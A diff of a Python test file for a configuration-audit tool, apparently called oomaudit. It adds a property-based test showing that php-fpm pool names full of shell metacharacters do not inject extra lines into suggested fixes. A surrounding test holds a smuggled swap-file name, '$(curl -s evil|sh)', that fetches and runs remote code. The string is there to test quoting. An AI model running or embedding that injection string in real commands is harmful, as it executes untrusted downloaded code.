@@ -14,7 +14,7 @@ import tempfile
 from contextlib import redirect_stderr, redirect_stdout
 from pathlib import Path
 
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 
 from oomaudit import main
@@ -174,3 +174,27 @@ def test_the_issue_example_is_quoted(tmp_path):
     fix = fixes(run("scan", "--root", str(tmp_path), "--select", "SWAP002"), "SWAP002")[0]
     assert "swapon '/swap$(curl -s evil|sh);`id`'" in fix
     assert "echo '/swap$(curl\\040-s\\040evil|sh);`id` none swap sw 0 0' >> /etc/fstab" in fix
+
+
+# what php-fpm takes in a pool's [section] name (its ini scanner refuses quotes, ';', '=')
+POOL = st.text(st.sampled_from(list("abz09_-.$(){}`|&<>*?!#~ @%^+,:/\\é\u202e\x1b\x85\u2028\x0c")),
+               min_size=1, max_size=12)
+
+
+@EXAMPLES
+@given(first=POOL, second=POOL)
+def test_pool_names_add_no_line_to_the_pool_settings(first, second):
+    assume(first != second)
+    pools = "".join(f"[{name}]\npm = static\npm.max_children = 50\nlisten = /run/{n}.sock\n"
+                    "php_admin_value[memory_limit] = 512M\n\n"
+                    for n, name in enumerate((first, second)))
+    with tempfile.TemporaryDirectory() as tmp:
+        (Path(tmp) / "php-fpm.conf").write_text(f"[global]\n\n{pools}")
+        report = run("check", str(Path(tmp) / "php-fpm.conf"), "--select", "FPM002")
+    found = fixes(report, "FPM002")
+    assume(found)  # names php-fpm itself refuses are CONF001s, no pool to size
+    lines = found[0].splitlines()
+    assert len(lines) == 2, lines  # one per pool, whatever its name holds
+    named = sorted(line.split("] pm.max_children = ")[0] for line in lines)
+    assert named == sorted(f"[{name}" if pasteable(name) else UNSAFE
+                           for name in (first, second)), lines
